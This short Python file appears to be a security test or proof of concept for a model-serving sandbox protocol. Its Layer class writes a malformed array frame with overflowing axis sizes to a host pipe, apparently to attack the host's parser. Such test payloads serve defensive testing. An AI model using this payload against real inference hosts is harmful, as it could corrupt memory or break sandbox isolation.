import os

from attack import Nothing, frames, nonce


class Layer(Nothing):
    def forward(self, inputs):
        axes = [0, (1 << 64) - 1, (1 << 63), 0, 0, 0, 0, 0]
        array = frames.ANSWER.pack(frames.ARRAY_KIND, nonce(), 0) + frames.ARRAY.pack(b"f4", 3, 1, *axes, 0) + b"y"
        os.write(3, array + frames.ANSWER.pack(frames.DONE_KIND, nonce(), 2) + b"{}")
